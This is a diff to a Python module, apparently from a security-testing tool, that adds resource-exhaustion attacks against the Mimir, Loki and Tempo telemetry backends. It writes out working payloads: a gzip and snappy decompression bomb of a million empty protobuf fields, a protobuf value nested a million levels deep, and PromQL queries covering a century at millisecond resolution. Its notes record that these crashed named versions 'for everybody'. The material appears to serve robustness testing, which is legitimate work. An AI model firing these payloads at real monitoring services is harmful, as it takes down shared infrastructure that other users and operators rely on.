@@ -5,18 +5,21 @@ None reads or writes a byte that is not the attacker's. Each was seen to stop on
 
 from __future__ import annotations
 
+import gzip
 import re
 import socket
 import time
 from collections.abc import Callable, Iterable, Iterator
 from contextlib import ExitStack
+from typing import Any
 from urllib.parse import quote
 
 import cramjam
 
 from stackproof.errors import StackproofError
 from stackproof.model import Backend, Signal
-from stackproof.otlp.protobuf import field
+from stackproof.otlp import synthetic
+from stackproof.otlp.protobuf import field, varint
 from stackproof.waiting import until
 
 from .base import BACKENDS_LIMIT, Attack, AttackRun, backend_url, deed
@@ -73,7 +76,8 @@ def _half_exports(attack_run: AttackRun) -> Iterable[str]:
 
 # --- memory ---------------------------------------------------------------------------------------
 
-_DESCRIBED = 30_000
+#: In all, and in one export: what Mimir unpacks holds no more.
+_DESCRIBED, _AT_ONCE = 30_000, 5_000
 #: What Mimir may keep for three tenants, and a little more. `max_global_metadata_per_user`
 _KEPT = 20_000
 
@@ -92,10 +96,11 @@ def _descriptions(attack_run: AttackRun) -> Iterable[str]:
     target = attack_run.target
     before = gauge(attack_run, "cortex_ingester_memory_metadata")
     noisy = target.credential(target.bystander)
-    names = (f"described_{attack_run.forged.run}_{number}" for number in range(_DESCRIBED))
-    answer = send(
-        http1(attack_run.gateway, "POST", "/api/v1/push", [noisy, *REMOTE_WRITE], _described(names))
-    )
+    lines = [noisy, *REMOTE_WRITE]
+    for first in range(0, _DESCRIBED, _AT_ONCE):
+        numbers = range(first, first + _AT_ONCE)
+        body = _described(f"described_{attack_run.forged.run}_{number}" for number in numbers)
+        answer = send(http1(attack_run.gateway, "POST", "/api/v1/push", lines, body))
     grown = gauge(attack_run, "cortex_ingester_memory_metadata") - before
     if grown > _KEPT:
         yield f"Mimir keeps {grown:.0f} descriptions in memory: {answer.describe()}"
@@ -124,6 +129,64 @@ def _allocating(
 
 _YEARS = 30
 _ONES = 300
+_HOLLOW = 1_000_000
+
+
+def _hollow(attack_run: AttackRun) -> Iterator[WireRequest]:
+    """Empty resources, series and streams: two bytes each, packed to nearly nothing."""
+    parts = field(1, b"") * _HOLLOW
+    packed = gzip.compress(parts)
+    for signal in Signal:
+        yield attack_run.write(signal, attack_run.own, "Content-Encoding: gzip", body=packed)
+    snappy = bytes(cramjam.snappy.compress_raw(parts))
+    for path in ("/api/v1/push", "/loki/api/v1/push"):
+        lines = [attack_run.own, *REMOTE_WRITE]
+        yield http1(attack_run.gateway, "POST", path, lines, snappy)
+
+
+_DEEP = 1_000_000
+
+
+def nested(levels: int) -> bytes:
+    """Return an AnyValue that is a list in a list in a list, and so on.
+
+    AnyValue.array_value = 5; ArrayValue.values = 1.
+    """
+    size, heads = 0, []
+    for _ in range(levels):
+        inner = b"\x0a" + varint(size)
+        heads.append(b"\x2a" + varint(len(inner) + size) + inner)
+        size += len(heads[-1])
+    return b"".join(reversed(heads))
+
+
+def with_attribute(attack_run: AttackRun, signal: Signal, value: bytes) -> bytes:
+    """Return the forged telemetry with one more attribute of its resource.
+
+    Of a resource that stands twice the attributes are added up (protobuf). ExportRequest.resource_…
+    = 1; Resource….resource = 1; Resource.attributes = 1; KeyValue.{key = 1, value = 2}.
+    """
+    message: Any = synthetic.make(attack_run.forged, signal)
+    (part,) = getattr(message, f"resource_{'spans' if signal is Signal.TRACES else signal}")
+    attribute = field(1, "deep") + field(2, value)
+    return field(1, part.SerializeToString() + field(1, field(1, attribute)))
+
+
+def _deep(attack_run: AttackRun) -> Iterator[WireRequest]:
+    value = nested(_DEEP)
+    # Tempo last: it takes it, and is busy with it for hours.
+    for signal in (Signal.METRICS, Signal.LOGS, Signal.TRACES):
+        packed = gzip.compress(with_attribute(attack_run, signal, value), 1)
+        yield attack_run.write(signal, attack_run.own, "Content-Encoding: gzip", body=packed)
+
+
+def _century(attack_run: AttackRun) -> Iterator[WireRequest]:
+    """All moments of a century, written in every way that PromQL has."""
+    for span in ("100y:1ms", "1y:1s", "36500d:1s", "1h:100ms", "999999999s : 1s", "9999w1ms:1m"):
+        query = quote(f"count(max_over_time(vector(1)[{span}] offset 5m))")
+        path = f"/prometheus/api/v1/query?query={query}"
+        yield http1(attack_run.gateway, "GET", path, [attack_run.own])
+
 
 # --- processor ------------------------------------------------------------------------------------
 
@@ -205,6 +268,31 @@ EXHAUSTION: tuple[Attack, ...] = (
         _allocating("query_range", "vector(1)" + "+1" * _ONES, 24, 1200),
         BACKENDS_LIMIT,
         measures=True,
+    ),
+    Attack(
+        name="hollow-exports",
+        does=f"exports {_HOLLOW:,} empty parts, packed to a few KB",
+        source="5 MB of empty series: 2.9 GB of Mimir 3.0.5; 19 KB that unpack to 20 MB: 1.7 GB of "
+        "Tempo (observed)",
+        sends=_hollow,
+        ineffective_because=BACKENDS_LIMIT,
+        destroys=True,
+    ),
+    Attack(
+        name="brackets-in-brackets",
+        does=f"exports a list in a list in a list, {_DEEP:,} deep",
+        source="3 MB packed: Mimir 3.0.5 and Loki 3.7.8 end at once, for everybody (observed)",
+        sends=_deep,
+        ineffective_because=BACKENDS_LIMIT,
+        destroys=True,
+    ),
+    Attack(
+        name="century-by-milliseconds",
+        does="asks for the largest of a one, at each moment of a century",
+        source="Mimir 3.0.5 makes room before it compares that with its limit, and ends (observed)",
+        sends=_century,
+        ineffective_because=BACKENDS_LIMIT,
+        destroys=True,
     ),
     Attack(
         name="endless-sum",
